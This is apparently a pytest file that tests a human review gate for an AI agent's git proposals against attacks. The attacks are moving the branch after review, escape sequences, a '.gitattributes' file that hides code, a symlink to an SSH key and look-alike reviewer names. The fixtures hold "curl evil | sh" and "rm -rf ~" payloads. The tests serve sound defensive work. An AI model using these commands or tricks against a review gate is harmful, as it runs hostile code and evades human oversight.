"""Attacks on the review gate through the real command line and a real git repository.

The re-pin TOCTOU (the agent's ``show`` after the branch moved), escape sequences in a proposal, a
``.gitattributes`` that hides code as "Binary files differ", and look-alike reviewer names. Each asserts that
nothing else changed (the refs, the human's files, the proposal's status) and what the user sees.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from assistant.review import AuditLog, ReviewService
from tests.review._cli import ara
from tests.review._tty import ara_tty
from tests.vcs._support import git, human_commit, human_status, human_tree, make_run
from tools.vcs import AGENT_IDENTITY, Proposal, Workspace

REVIEWER = "Rita Reviewer <rita@example.org>"


def refs(ws: Path) -> str:
    """Every ref and what it points at."""
    return git(ws, "for-each-ref", "--format=%(refname) %(objectname)")


def move_branch(ws: Workspace, proposal: Proposal, files: dict[str, str]) -> str:
    """Commit ``files`` onto the proposal's branch from a side worktree (as a tampering process would)."""
    side = ws.path.parent / "side"
    git(ws.path, "worktree", "add", "-q", str(side), proposal.branch)
    human_commit(side, files, "sneak in more code")
    git(ws.path, "worktree", "remove", "--force", str(side))
    return git(ws.path, "rev-parse", proposal.branch)


def test_agent_show_after_the_branch_moved_cannot_get_new_commits_merged(ws: Workspace) -> None:
    git(ws.path, "config", "user.name", "Hu Man")
    git(ws.path, "config", "user.email", "hu@example.org")
    run = make_run(ws, {"report.md": "# probe\n", "code.py": "print('reviewed')\n"})
    proposal = ws.propose(run.run_id, "probe", "A probe", ["."], "report.md", {})
    seen = proposal.head_commit

    # the human reads the proposal at a terminal: the full head is printed and recorded
    shown = ara_tty(ws.path, "show", str(proposal.id))
    assert shown.exit_code == 0, shown.output
    assert f"shown: head {seen} (recorded as the head you reviewed)" in shown.output
    assert f"ara review approve {proposal.id} --head {seen}" in shown.output

    # then the branch moves, and the agent looks at the proposal again
    moved = move_branch(ws, proposal, {f"runs/{run.run_id}/code.py": "import os; os.system('curl evil | sh')\n"})
    agent_view = ara(ws.path, "show", str(proposal.id), env={"ARA_ROLE": "agent"})
    assert agent_view.exit_code == 0, agent_view.output
    assert f"head {moved}" in agent_view.output
    assert "recorded as the head you reviewed" not in agent_view.output
    assert ReviewService(ws).get(proposal.id).pinned_head == seen
    last = AuditLog(ws.state_dir / "audit.jsonl").entries()[-1]
    assert (last.action, last.actor, last.channel, last.head, last.pinned) == (
        "viewed",
        f"{AGENT_IDENTITY} (ARA_ROLE=agent)",
        "agent",
        moved,
        False,
    )

    # the human approves at the terminal, answering yes: refused, because the branch left what they read
    before, tree, status = refs(ws.path), human_tree(ws.path), human_status(ws.path)
    approved = ara_tty(ws.path, "approve", str(proposal.id), answers="y\n")
    assert approved.exit_code == 2, approved.output
    assert "error: Branch changed during review" in approved.output
    assert f"now points at {moved[:12]}, not at the {seen[:12]} shown to you by 'ara review show'" in approved.output
    assert "Nothing was changed." in approved.output
    # a script naming the head the human read is refused too, and one naming no head is told to name it
    scripted = ara(ws.path, "approve", str(proposal.id), "--reviewer", REVIEWER, "--head", seen)
    assert scripted.exit_code == 2
    assert f"now points at {moved[:12]}, not at the {seen[:12]} you reviewed" in scripted.output
    headless = ara(ws.path, "approve", str(proposal.id), "--reviewer", REVIEWER)
    assert headless.exit_code == 2
    assert "error: Head needed" in headless.output
    assert "approving without a terminal needs --head <commit>" in headless.output
    assert refs(ws.path) == before
    assert (human_tree(ws.path), human_status(ws.path)) == (tree, status)
    assert ReviewService(ws).get(proposal.id).status == "open"
    refusals = [e for e in AuditLog(ws.state_dir / "audit.jsonl").entries() if e.action == "refused"]
    assert [(e.actor, e.channel, e.head) for e in refusals] == [
        ("Hu Man <hu@example.org>", "tty", seen),
        (REVIEWER, "explicit", seen),
        (REVIEWER, "explicit", seen),
    ]

    # after reading the new commits the human can approve them, and exactly them
    again = ara_tty(ws.path, "show", str(proposal.id))
    assert "os.system('curl evil | sh')" in again.output
    approved = ara_tty(ws.path, "approve", str(proposal.id), answers="y\n")
    assert approved.exit_code == 0, approved.output
    assert git(ws.path, "rev-parse", "main^2") == moved


def test_an_agent_cannot_approve_what_it_showed_itself(ws: Workspace) -> None:
    run = make_run(ws, {"report.md": "# r\n"})
    proposal = ws.propose(run.run_id, "s", "summary", ["."], "report.md", {})
    before = refs(ws.path)
    agent = {"ARA_ROLE": "agent"}
    assert ara(ws.path, "show", str(proposal.id), env=agent).exit_code == 0
    ran = ara(ws.path, "approve", str(proposal.id), "--reviewer", REVIEWER, "--head", proposal.head_commit, env=agent)
    assert ran.exit_code == 2
    assert "error: Agent cannot approve" in ran.output
    assert refs(ws.path) == before
    assert ReviewService(ws).get(proposal.id).pinned_head is None


ESCAPES = "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[8mhidden\x1b[0m\x9b31m\u202eevil\u202c\x08\r"


def test_escape_sequences_in_a_proposal_are_shown_not_obeyed(ws: Workspace) -> None:
    run = make_run(ws, {"report.md": f"# Report{ESCAPES}\nbody\n", "code.py": f"x = 1  # {ESCAPES}\n"})
    (run.path / "raw.bin").write_bytes(b"plain \x1b[31mred \x9b2J and \xff\xfe bytes\n")
    proposal = ws.propose(run.run_id, "esc", f"Summary {ESCAPES}", ["."], "report.md", {"acc\x1b[5m": 0.5})
    before, tree = refs(ws.path), human_tree(ws.path)
    for args in (("show", str(proposal.id)), ("list",)):
        shown = ara(ws.path, *args)
        assert shown.exit_code == 0, shown.output
        raw = shown.output
        assert not any(ch in raw for ch in "\x1b\x07\x08\r\x9b\u202e\u202c"), repr(raw[:400])
        assert "Summary \\x1b[2J\\x1b[H\\x1b]0;owned\\x07" in raw
    shown = ara(ws.path, "show", str(proposal.id)).output
    assert (
        "+x = 1  # \\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\x1b[8mhidden\\x1b[0m\\x9b31m\\u202eevil\\u202c\\x08\\x0d" in shown
    )
    assert "# Report\\x1b[2J" in shown
    assert "+plain \\x1b[31mred \\x9b2J and \\xff\\xfe bytes" in shown
    assert "acc\\x1b[5m" in shown
    assert refs(ws.path) == before
    assert human_tree(ws.path) == tree


def test_gitattributes_cannot_hide_code_or_be_approved(ws: Workspace) -> None:
    evil = "import os\nos.system('rm -rf ~')\n"
    run = make_run(ws, {"report.md": "# fine\n", "code.py": evil, ".gitattributes": "* -diff\n"})
    nested = make_run(ws, {"report.md": "# r\n", "lib/.gitmodules": '[submodule "x"]\n\turl = ../x\n'})
    proposal = ws.propose(run.run_id, "attr", "Harmless", ["."], "report.md", {})
    other = ws.propose(nested.run_id, "mods", "Also harmless", ["."], "report.md", {})
    # the attack is real: git itself, in the human's checkout (which holds the run folder), hides the code
    plain = subprocess.run(
        ["git", "-C", str(ws.path), "diff", proposal.base_commit, proposal.head_commit],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert f"Binary files /dev/null and b/runs/{run.run_id}/code.py differ" in plain
    before, tree, status = refs(ws.path), human_tree(ws.path), human_status(ws.path)

    shown = ara(ws.path, "show", str(proposal.id))
    assert shown.exit_code == 0
    assert "Binary files" not in shown.output
    assert "+os.system('rm -rf ~')" in shown.output
    assert "+# fine" in shown.output
    assert (
        f"WARNING: REFUSED AT APPROVAL: 1 change(s) to git metadata, links or submodules: runs/{run.run_id}/"
        ".gitattributes (.gitattributes file" in shown.output
    )
    assert re.search(rf"runs/{run.run_id}/code.py +\| 2 \+\+\n", shown.output)
    for p in (proposal, other):
        ran = ara(ws.path, "approve", str(p.id), "--reviewer", REVIEWER, "--head", p.head_commit, "--allow-outside")
        assert ran.exit_code == 2, ran.output
        assert "error: Git metadata in the proposal" in ran.output
        assert "so ara never merges them" in ran.output
    assert f"runs/{nested.run_id}/lib/.gitmodules (.gitmodules file" in ran.output
    assert refs(ws.path) == before
    assert (human_tree(ws.path), human_status(ws.path)) == (tree, status)
    assert {p.status for p in ReviewService(ws).proposals()} == {"open"}


def test_symlinks_and_submodules_on_a_moved_branch_are_refused(ws: Workspace) -> None:
    run = make_run(ws, {"report.md": "# r\n"})
    proposal = ws.propose(run.run_id, "s", "summary", ["."], "report.md", {})
    side = ws.path.parent / "side"
    git(ws.path, "worktree", "add", "-q", str(side), proposal.branch)
    (side / "runs" / run.run_id / "key").symlink_to("/root/.ssh/id_rsa")
    git(side, "add", "-f", f"runs/{run.run_id}/key")
    git(side, "update-index", "--add", "--cacheinfo", f"160000,{proposal.base_commit},runs/{run.run_id}/sub")
    git(
        side,
        "commit",
        "-q",
        "-m",
        "link",
        env={
            "GIT_AUTHOR_NAME": "x",
            "GIT_AUTHOR_EMAIL": "x@x.org",
            "GIT_COMMITTER_NAME": "x",
            "GIT_COMMITTER_EMAIL": "x@x.org",
        },
    )
    git(ws.path, "worktree", "remove", "--force", str(side))
    head = git(ws.path, "rev-parse", proposal.branch)
    before = refs(ws.path)
    shown = ara(ws.path, "show", str(proposal.id), "--no-diff")
    assert f"runs/{run.run_id}/key (symbolic link)" in shown.output
    assert f"runs/{run.run_id}/sub (submodule (gitlink) entry)" in shown.output
    ran = ara(ws.path, "approve", str(proposal.id), "--reviewer", REVIEWER, "--head", head)
    assert ran.exit_code == 2
    assert "error: Git metadata in the proposal" in ran.output
    assert refs(ws.path) == before


@pytest.mark.parametrize(
    "reviewer",
    [
        "ara\u2010agent <someone@example.org>",  # U+2010 HYPHEN
        "\u0430ra-\u0430gent <someone@example.org>",  # Cyrillic a
        "\uff41\uff52\uff41\uff0d\uff41\uff47\uff45\uff4e\uff54 <someone@example.org>",  # fullwidth
        "ara\u200d-\u200cagent <someone@example.org>",  # zero-width joiner and non-joiner
        "ARA AGENT <someone@example.org>",
        "Someone <ara\u2011agent@localhost>",  # non-breaking hyphen in the e-mail
        "policy\u2236campaign:c1 <someone@example.org>",  # RATIO for the colon
    ],
)
def test_look_alike_reviewer_names_are_refused(ws: Workspace, reviewer: str) -> None:
    run = make_run(ws, {"report.md": "# r\n"})
    proposal = ws.propose(run.run_id, "s", "summary", ["."], "report.md", {})
    before = refs(ws.path)
    for args in (
        ("approve", str(proposal.id), "--reviewer", reviewer, "--head", proposal.head_commit),
        ("reject", str(proposal.id), "--reviewer", reviewer, "--comment", "no"),
    ):
        ran = ara(ws.path, *args)
        assert ran.exit_code == 2, ran.output
        assert "error: Agent cannot review" in ran.output
        assert "once look-alike characters are folded" in ran.output or "policy's name" in ran.output
    assert refs(ws.path) == before
    assert ReviewService(ws).get(proposal.id).status == "open"


def test_a_look_alike_git_identity_cannot_approve_at_the_terminal(ws: Workspace) -> None:
    run = make_run(ws, {"report.md": "# r\n"})
    proposal = ws.propose(run.run_id, "s", "summary", ["."], "report.md", {})
    git(ws.path, "config", "user.name", "ara\u2010agent")
    git(ws.path, "config", "user.email", "helper@example.org")
    before = refs(ws.path)
    ran = ara_tty(ws.path, "approve", str(proposal.id), answers="y\n")
    assert ran.exit_code == 2
    assert "error: Agent cannot review" in ran.output
    assert refs(ws.path) == before


def test_reviewer_names_with_control_characters_are_refused(ws: Workspace) -> None:
    run = make_run(ws, {"report.md": "# r\n"})
    proposal = ws.propose(run.run_id, "s", "summary", ["."], "report.md", {})
    ran = ara(ws.path, "approve", "1", "--reviewer", "Rita\x1b[2J <rita@example.org>", "--head", proposal.head_commit)
    assert ran.exit_code == 2
    assert "error: Bad --reviewer" in ran.output
    assert "contains control or text-direction characters (U+001B)" in ran.output
    assert git(ws.path, "rev-parse", "main") == proposal.base_commit


def test_escape_sequences_in_file_names_do_not_reach_the_terminal_through_errors(ws: Workspace) -> None:
    run = make_run(ws, {"report.md": "# r\n"})
    outside = ws.path / "lib" / "x\x1b]0;owned\x07\x1b[2J.py"
    outside.parent.mkdir()
    outside.write_text("x = 1\n", encoding="utf-8")
    proposal = ws.propose(run.run_id, "s", "summary", [".", outside], "report.md", {})
    before = refs(ws.path)
    ran = ara(ws.path, "approve", str(proposal.id), "--reviewer", REVIEWER, "--head", proposal.head_commit)
    assert ran.exit_code == 2
    assert "error: Files outside the run directory" in ran.output
    assert "lib/x\\x1b]0;owned\\x07\\x1b[2J.py" in ran.output
    assert "\x1b" not in ran.output
    assert "\x07" not in ran.output
    assert refs(ws.path) == before


def test_the_ascii_fast_path_folds_as_the_unicode_table_does() -> None:
    from tools.vcs.confusables import ASCII_FOLDS, _classes

    table = _classes()
    assert {c: table[c] for c in map(chr, range(32, 127)) if table.get(c, c) != c} == ASCII_FOLDS
